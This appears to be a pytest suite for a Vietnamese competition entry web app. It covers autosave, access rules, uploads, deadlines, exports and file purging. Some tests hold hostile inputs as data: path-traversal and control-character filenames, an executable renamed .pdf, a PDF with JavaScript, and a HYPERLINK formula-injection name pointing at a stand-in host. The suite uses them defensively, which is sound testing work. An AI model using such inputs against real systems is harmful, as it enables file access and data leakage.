"""The entry pages as a team and the secretariat use them."""

import csv
import io
import re
from datetime import timedelta

import pytest
from openpyxl import load_workbook

from contest.domain.entries import submit
from contest.models import AttachmentKind, Board, CompetitionRoleKind, EntryStatus
from contest.models.base import utcnow
from tests.factories import (
    csrf_token,
    fill_entry,
    login,
    make_competition,
    make_team,
    make_user,
    pdf_bytes,
    recorded_statements,
)


@pytest.fixture
def team(db):
    return make_team(make_competition())


def _upload(client, team, filename, content, kind="pitch_deck"):
    token = csrf_token(client, f"/teams/{team.id}/entry")
    return client.post(
        f"/teams/{team.id}/entry/upload",
        content_type="multipart/form-data",
        data={"csrf_token": token, "kind": kind, "file": (io.BytesIO(content), filename)},
    )


def _text(response) -> str:
    return response.get_data(as_text=True)


def test_draft_typed_text_is_kept_when_an_upload_is_refused(client, team, db):
    login(client, team.leader)
    token = csrf_token(client, f"/teams/{team.id}/entry")
    response = client.post(
        f"/teams/{team.id}/entry/autosave", json={"title": "Nước mắm Sa Huỳnh"}, headers={"X-CSRFToken": token}
    )
    assert response.status_code == 200 and response.json["errors"] == {}

    windows_program = b"MZ\x90\x00" + b"\x00" * 200
    response = _upload(client, team, "deck.pdf", windows_program)
    assert response.status_code == 400
    assert "Nước mắm Sa Huỳnh" in _text(response)
    assert not team.entry.attachments


def test_the_form_and_its_autosave_use_few_statements(client, team, db):
    """The deadline rush: every pause in typing is an autosave. Account, team
    (with competition, entry and members, for the access rule), boards and
    fields, then one UPDATE; nothing is read again after the commit. The form
    shows boards and fields kept for a few seconds (account, team, files)."""
    login(client, team.leader)
    token = csrf_token(client, f"/teams/{team.id}/entry")
    board, field = team.competition.boards[-1], team.competition.fields[-1]
    with recorded_statements(db) as seen:
        page = _text(client.get(f"/teams/{team.id}/entry"))
    assert len(seen) <= 3, seen
    assert f'<option value="{board.id}">{board.name}</option>' in page
    assert f'<option value="{field.id}">{field.name}</option>' in page

    # All fields, as the page's script sends them.
    draft = {
        "board": str(board.id),
        "field": str(field.id),
        "title": "Nước mắm Sa Huỳnh",
        "summary": "Tóm tắt",
        "problem": "",
        "solution": "",
        "customers_market": "",
        "business_model": "",
        "stage": "idea",
        "company_registered_on": "",
        "funding_needed": "500.000.000",
        "team_strengths": "",
        "video_url": "",
        "website_url": "",
        "gallery_opt_in": True,
    }
    with recorded_statements(db) as seen:
        response = client.post(f"/teams/{team.id}/entry/autosave", json=draft, headers={"X-CSRFToken": token})
    assert response.status_code == 200 and response.json["errors"] == {}
    assert len(seen) <= 4, seen
    assert seen[-1].startswith("UPDATE entries"), seen
    db.session.refresh(team.entry)
    assert (team.entry.board_id, team.entry.field_id, team.entry.funding_needed) == (board.id, field.id, 500_000_000)
    assert response.json["saved_at"] == team.entry.draft_saved_at.isoformat()

    # A saved choice is checked against the database, not the lists the form showed:
    # a board added since counts, an id from another competition does not.
    added = Board(competition_id=team.competition.id, code="M", name="Bảng Mới", position=9)
    db.session.add(added)
    db.session.commit()
    client.post(f"/teams/{team.id}/entry/autosave", json={"board": str(added.id)}, headers={"X-CSRFToken": token})
    db.session.refresh(team.entry)
    assert team.entry.board_id == added.id
    other = make_competition("khac-2026").boards[0]
    client.post(f"/teams/{team.id}/entry/autosave", json={"board": str(other.id)}, headers={"X-CSRFToken": token})
    db.session.refresh(team.entry)
    assert team.entry.board_id is None and team.entry.field_id == field.id


def test_only_members_open_or_autosave_the_entry(client, team, db):
    fill_entry(team)
    stranger = make_team(team.competition).leader
    login(client, stranger)
    token = csrf_token(client, "/")
    assert client.get(f"/teams/{team.id}/entry").status_code == 403
    response = client.post(
        f"/teams/{team.id}/entry/autosave", json={"title": "Không phải của tôi"}, headers={"X-CSRFToken": token}
    )
    assert response.status_code == 403
    assert client.get("/teams/999999/entry").status_code == 404
    db.session.refresh(team.entry)
    assert team.entry.title == "Tỏi đen Lý Sơn"


@pytest.mark.parametrize(
    "filename, content",
    [
        ("deck.pdf", b"MZ\x90\x00" + b"\x00" * 200),  # a program renamed .pdf
        ("deck.pdf", pdf_bytes()[:120]),  # cut off half way
        ("deck.pdf", b""),  # empty
    ],
)
def test_bad_files_are_refused_with_a_message(client, team, filename, content):
    login(client, team.leader)
    response = _upload(client, team, filename, content)
    assert response.status_code == 400
    assert re.search(r'class="errors" id="file-err"', _text(response))
    assert not team.entry.attachments


def test_oversize_files_are_refused(client, team, app):
    app.config["MAX_CONTENT_LENGTH"] = 2 * 1024 * 1024
    login(client, team.leader)
    token = csrf_token(client, f"/teams/{team.id}/entry")
    big = pdf_bytes() + b"%" * (3 * 1024 * 1024)
    response = client.post(
        f"/teams/{team.id}/entry/upload",
        content_type="multipart/form-data",
        data={"csrf_token": token, "kind": "pitch_deck", "file": (io.BytesIO(big), "deck.pdf")},
    )
    assert response.status_code == 413
    assert "2 MB" in _text(response)


def test_files_over_the_per_file_limit_are_refused(client, team):
    from contest.domain.uploads import MAX_BYTES

    login(client, team.leader)
    limit = MAX_BYTES[AttachmentKind.pitch_deck.value]
    response = _upload(client, team, "deck.pdf", pdf_bytes() + b"%" * limit)
    assert response.status_code == 400
    assert f"{limit // (1024 * 1024)} MB" in _text(response)
    assert not team.entry.attachments


@pytest.mark.parametrize("filename", ["../../etc/passwd.pdf", "a\x01b\u202ecod.pdf", "..\\..\\boot.pdf"])
def test_hostile_filenames_are_cleaned(client, team, filename):
    login(client, team.leader)
    response = _upload(client, team, filename, pdf_bytes())
    assert response.status_code == 302
    stored = team.entry.attachments[0]
    assert "/" not in stored.filename and "\\" not in stored.filename and ".." not in stored.filename
    assert not any(ord(ch) < 32 or ch == "\u202e" for ch in stored.filename)
    download = client.get(f"/teams/{team.id}/entry/attachments/{stored.id}")
    assert download.status_code == 200 and download.data.startswith(b"%PDF")
    assert download.headers["Content-Type"].startswith("application/pdf")
    assert "\n" not in download.headers["Content-Disposition"]


def test_submit_shows_a_receipt_and_keeps_versions(client, team, db):
    fill_entry(team)
    login(client, team.leader)
    token = csrf_token(client, f"/teams/{team.id}/entry")
    response = client.post(f"/teams/{team.id}/entry/submit", data={"csrf_token": token})
    assert response.status_code == 302 and response.location.endswith("/entry/receipt")
    receipt = _text(client.get(response.location))
    assert team.entry.code in receipt
    client.post(f"/teams/{team.id}/entry/autosave", json={"title": "Tỏi đen Lý Sơn 2"}, headers={"X-CSRFToken": token})
    client.post(f"/teams/{team.id}/entry/submit", data={"csrf_token": token})
    assert [v.number for v in team.entry.versions] == [1, 2]
    assert team.entry.versions[0].data["title"] == "Tỏi đen Lý Sơn"


def test_incomplete_entry_lists_every_gap_and_keeps_the_draft(client, team):
    login(client, team.leader)
    token = csrf_token(client, f"/teams/{team.id}/entry")
    client.post(f"/teams/{team.id}/entry/autosave", json={"title": "Chỉ có tên"}, headers={"X-CSRFToken": token})
    response = client.post(f"/teams/{team.id}/entry/submit", data={"csrf_token": token})
    assert response.status_code == 400
    page = _text(response)
    assert "Chỉ có tên" in page and page.count("<li") >= 5
    assert team.entry.status is EntryStatus.draft


def test_after_the_deadline_the_entry_is_read_only(client, team, db):
    fill_entry(team)
    login(client, team.leader)
    token = csrf_token(client, f"/teams/{team.id}/entry")
    team.competition.submission_deadline = utcnow() - timedelta(minutes=1)
    db.session.commit()

    page = _text(client.get(f"/teams/{team.id}/entry"))
    assert f'action="/teams/{team.id}/entry/submit"' not in page
    assert f'action="/teams/{team.id}/entry/upload"' not in page
    assert "<textarea" not in page

    response = client.post(
        f"/teams/{team.id}/entry/autosave", json={"title": "Sửa muộn"}, headers={"X-CSRFToken": token}
    )
    assert response.status_code == 409
    response = client.post(f"/teams/{team.id}/entry", data={"csrf_token": token, "title": "Sửa muộn"})
    assert response.status_code == 409
    assert _upload(client, team, "late.pdf", pdf_bytes()).status_code in (400, 409)
    response = client.post(f"/teams/{team.id}/entry/submit", data={"csrf_token": token})
    assert response.status_code == 409
    db.session.refresh(team.entry)
    assert team.entry.title == "Tỏi đen Lý Sơn" and len(team.entry.attachments) == 2


def _secretary(competition, db):
    from contest.domain.competitions import grant_role

    user = make_user()
    grant_role(competition, user.email, CompetitionRoleKind.secretariat, granted_by=make_user(admin=True))
    db.session.commit()
    return user


def test_exports_neutralise_formulas(client, db):
    competition = make_competition()
    team = make_team(competition, name='=HYPERLINK("http://x.example/?"&A1,"bấm")')
    submit(fill_entry(team), team.leader)
    login(client, _secretary(competition, db))

    response = client.get(f"/manage/{competition.slug}/entries/export.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    name_cells = [cell for row in rows for cell in row if "HYPERLINK" in cell]
    assert name_cells and all(cell.startswith("'") for cell in name_cells)

    response = client.get(f"/manage/{competition.slug}/entries/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value and "HYPERLINK" in str(c.value)]
    # XLSX: the name as typed, stored as text and marked so Excel keeps it text (no apostrophe).
    assert cells and all(c.data_type == "s" and c.quotePrefix and c.value == team.name for c in cells)


def test_the_entry_list_ignores_filters_no_id_can_be(client, db):
    competition = make_competition()
    team = make_team(competition, name="Đội lọc")
    submit(fill_entry(team), team.leader)
    login(client, _secretary(competition, db))
    # "²" passes str.isdigit() but not int(); a 20-digit id no column holds: both are "no filter".
    for query in ("board=²", "field=①", "board=99999999999999999999"):
        answer = client.get(f"/manage/{competition.slug}/entries/?{query}")
        assert answer.status_code == 200 and "Đội lọc" in answer.get_data(as_text=True), query


def test_secretariat_marks_an_entry_invalid_with_a_reason(client, db):
    competition = make_competition()
    team = make_team(competition)
    entry = fill_entry(team)
    submit(entry, team.leader)
    login(client, _secretary(competition, db))
    path = f"/manage/{competition.slug}/entries/{entry.id}"
    token = csrf_token(client, path)
    response = client.post(path, data={"csrf_token": token, "validity": "invalid", "reason": ""})
    assert response.status_code == 400
    response = client.post(path, data={"csrf_token": token, "validity": "invalid", "reason": "Thiếu chữ ký"})
    assert response.status_code == 302
    db.session.refresh(entry)
    assert entry.validity.value == "invalid" and entry.validity_reason == "Thiếu chữ ký"


def test_members_of_another_team_cannot_read_attachments(client, team, db):
    fill_entry(team)
    stranger = make_team(team.competition).leader
    login(client, stranger)
    attachment = team.entry.attachments[0]
    assert attachment.kind is AttachmentKind.pitch_deck
    assert client.get(f"/teams/{team.id}/entry/attachments/{attachment.id}").status_code == 403


# -- uploads: active content, rate limit, earlier versions --------------------------------


def test_a_pdf_with_a_script_is_refused_saying_what_was_found_and_how_to_fix_it(client, team, db):
    from tests.contest.domain.test_uploads import pdf_with_open_javascript

    login(client, team.leader)
    response = _upload(client, team, "deck.pdf", pdf_with_open_javascript(pdf_bytes()))
    assert response.status_code == 400
    page = _text(response)
    assert "Tệp PDF có chứa mã JavaScript, có thể tự chạy trên máy tính của giám khảo" in page
    assert "in ra một tệp PDF mới" in page
    assert not team.entry.attachments


def test_uploads_are_rate_limited_per_account(database_url, db, tmp_path):
    from contest.extensions import limiter
    from contest.models import Attachment
    from tests.conftest import make_app

    limited = make_app(
        database_url, RATELIMIT_ENABLED=True, RATELIMIT_UPLOAD="3 per hour", UPLOAD_FOLDER=str(tmp_path / "uploads")
    )
    team = make_team(make_competition(), members=0)
    other = make_team(make_competition("cuoc-thi-khac-2026"))  # another account, same address
    first, second = limited.test_client(), limited.test_client()
    try:
        login(first, team.leader)
        statuses = [_upload(first, team, f"deck-{i}.pdf", pdf_bytes(f"Bản {i}")).status_code for i in range(4)]
        refused = _upload(first, team, "deck-5.pdf", pdf_bytes("Bản 5"))
        login(second, other.leader)
        elsewhere = _upload(second, other, "deck.pdf", pdf_bytes()).status_code
    finally:
        limiter.reset()
    assert statuses == [302, 302, 302, 429]
    assert refused.status_code == 429
    assert "Tài khoản của ông/bà đã tải lên quá nhiều tệp trong thời gian ngắn" in _text(refused)
    assert elsewhere == 302
    assert db.session.query(Attachment).count() == 4  # three for the first team, one for the other


def test_the_team_sees_the_space_its_files_take(client, team, db):
    entry = fill_entry(team)
    from contest.domain.attachments import add_attachment

    add_attachment(entry, AttachmentKind.pitch_deck, "deck-moi.pdf", pdf_bytes("Bản mới"), team.leader)
    login(client, team.leader)
    page = _text(client.get(f"/teams/{team.id}/entry"))
    assert "Dung lượng đã dùng: " in page and "là các phiên bản trước đã được thay thế hoặc gỡ bỏ" in page


def _organizer(competition, db):
    from contest.domain.competitions import grant_role

    user = make_user()
    grant_role(competition, user.email, CompetitionRoleKind.organizer, granted_by=make_user(admin=True))
    db.session.commit()
    return user


def test_the_organizer_deletes_earlier_versions_on_request_and_it_is_audited(client, app, db):
    from sqlalchemy import select

    from contest.domain.attachments import add_attachment, remove_attachment
    from contest.models import AuditEvent
    from contest.storage import get_storage

    competition = make_competition()
    team = make_team(competition)
    entry = fill_entry(team)
    add_attachment(entry, AttachmentKind.pitch_deck, "deck-moi.pdf", pdf_bytes("Bản mới"), team.leader)
    add_attachment(entry, AttachmentKind.image, "anh.png", _png(), team.leader)
    remove_attachment(entry, entry.current_attachments(AttachmentKind.image)[0])
    earlier = entry.earlier_attachments()
    assert len(earlier) == 2 and all(get_storage().exists(a.storage_key) for a in earlier)
    path = f"/manage/{competition.slug}/entries/{entry.id}"
    purge = f"{path}/purge-earlier-files"

    # The secretariat sees the earlier versions but has no button.
    secretary = app.test_client()
    login(secretary, _secretary(competition, db))
    page = _text(secretary.get(path))
    assert "Các phiên bản trước của tệp" in page and "anh.png" in page and purge not in page

    organizer = _organizer(competition, db)
    login(client, organizer)
    page = _text(client.get(path))
    assert f'action="{purge}"' in page
    response = client.post(purge, data={"csrf_token": csrf_token(client, path)})
    assert response.status_code == 302
    assert "Đã xóa nội dung của 2 tệp phiên bản trước" in _text(client.get(path))

    db.session.expire_all()
    for row in earlier:
        assert row.purged_at is not None and len(row.sha256) == 64  # the record stays
        assert not get_storage().exists(row.storage_key)
    assert all(get_storage().exists(a.storage_key) for a in entry.current_attachments())
    event = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "entry.files_purged")).one()
    assert event.actor_id == organizer.id and event.reason == "organizer"
    assert event.competition_id == competition.id and event.object_id == str(entry.id)
    assert {f["filename"] for f in event.after["files"]} == {"deck.pdf", "anh.png"}

    # A purged file cannot be opened; the reason is given, not an error.
    gone = client.get(f"/teams/{team.id}/entry/attachments/{earlier[0].id}")
    assert gone.status_code == 410 and "đã bị xóa vào" in _text(gone)
    # Asking again deletes nothing more.
    client.post(purge, data={"csrf_token": csrf_token(client, path)})
    assert "Không có phiên bản trước nào đang được lưu để xóa" in _text(client.get(path))
    assert db.session.scalars(select(AuditEvent).where(AuditEvent.action == "entry.files_purged")).all() == [event]


def _png() -> bytes:
    from tests.contest.domain.test_uploads import make_png

    return make_png()


def test_the_same_submission_sent_twice_makes_one_version_and_one_receipt(client, team, db):
    """A double tap on "Nộp hồ sơ dự thi": two identical POSTs, one version, one receipt mail."""
    from sqlalchemy import select

    from contest.models import OutboxMessage

    fill_entry(team)
    login(client, team.leader)
    token = csrf_token(client, f"/teams/{team.id}/entry")
    first = client.post(f"/teams/{team.id}/entry/submit", data={"csrf_token": token})
    second = client.post(f"/teams/{team.id}/entry/submit", data={"csrf_token": token})
    assert first.status_code == second.status_code == 302
    assert second.location.endswith("/entry/receipt")
    db.session.expire_all()
    assert [v.number for v in team.entry.versions] == [1]
    receipts = db.session.scalars(select(OutboxMessage).where(OutboxMessage.recipient == team.leader.email)).all()
    assert len(receipts) == 1
    page = _text(client.get(second.location))
    assert "Phiên bản 1 của hồ sơ dự thi đã được nộp" in page


def test_the_entry_page_shows_the_deadline_and_the_time_left(client, team, db):
    from zoneinfo import ZoneInfo

    deadline = utcnow() + timedelta(days=3, hours=4, minutes=30)
    team.competition.submission_deadline = deadline
    db.session.commit()
    login(client, team.leader)
    page = _text(client.get(f"/teams/{team.id}/entry"))
    local = deadline.astimezone(ZoneInfo("Asia/Ho_Chi_Minh"))
    formal = f"{local:%H:%M} ngày {local.day} tháng {local.month} năm {local.year}"
    assert f'Hạn nộp hồ sơ: <strong><time datetime="{deadline.isoformat()}">{formal}</time></strong>' in page
    assert "còn 3 ngày 4 giờ" in page


def test_a_refused_upload_opens_at_the_upload_form_with_its_error_first(client, team, db):
    login(client, team.leader)
    response = _upload(client, team, "deck.pdf", b"MZ\x90\x00" + b"\x00" * 200)
    assert response.status_code == 400
    page = _text(response)
    # The form posts to #upload-problem, so the answer opens at its error summary (focusable, so the
    # browser focuses it), just above the file field.
    assert f'action="/teams/{team.id}/entry/upload#upload-problem"' in page
    summary = page.index('id="upload-problem"')
    assert page.index('id="upload"') < summary < page.index('type="file"')
    assert 'tabindex="-1"' in page[summary - 80 : summary + 40]
    assert "Tệp chưa được tải lên." in page and "EXE" in page[summary:]
    field = re.search(r"<input[^>]*type=\"file\"[^>]*>", page).group(0)
    assert 'aria-invalid="true"' in field


def test_the_upload_form_carries_each_kinds_limits_for_the_browser(client, team, db):
    login(client, team.leader)
    page = _text(client.get(f"/teams/{team.id}/entry"))
    field = re.search(r"<input[^>]*type=\"file\"[^>]*>", page).group(0)
    assert 'accept=".pdf,application/pdf"' in field and f'data-max-bytes="{20 * 2**20}"' in field
    image = re.search(r'<option[^>]*value="image"[^>]*>', page).group(0)
    assert f'data-max-bytes="{5 * 2**20}"' in image and ".webp" in image and 'data-max-mb="5"' in image
    assert 'data-text-too-large="Tệp có dung lượng {size} MB; chỉ cho phép tối đa {max} MB."' in page


def test_the_secretariat_and_the_receipt_show_the_stage_and_the_registration_date(client, app, db):
    """The "company registered less than N years ago" rule can be checked by hand."""
    from datetime import date

    from contest.domain.entries import save_draft

    competition = make_competition()
    team = make_team(competition)
    entry = fill_entry(team)
    save_draft(entry, {"stage": "registered_company", "company_registered_on": date(2023, 4, 5)})
    submit(entry, team.leader)
    db.session.commit()
    login(client, team.leader)
    receipt = _text(client.get(f"/teams/{team.id}/entry/receipt"))
    assert "Giai đoạn phát triển" in receipt and "Đã thành lập doanh nghiệp" in receipt
    assert "Ngày đăng ký thành lập doanh nghiệp" in receipt and "05/04/2023" in receipt
    secretariat = app.test_client()
    login(secretariat, _secretary(competition, db))
    page = _text(secretariat.get(f"/manage/{competition.slug}/entries/{entry.id}"))
    assert "Giai đoạn phát triển" in page and "Đã thành lập doanh nghiệp" in page
    assert "Ngày đăng ký thành lập doanh nghiệp" in page and "05/04/2023" in page
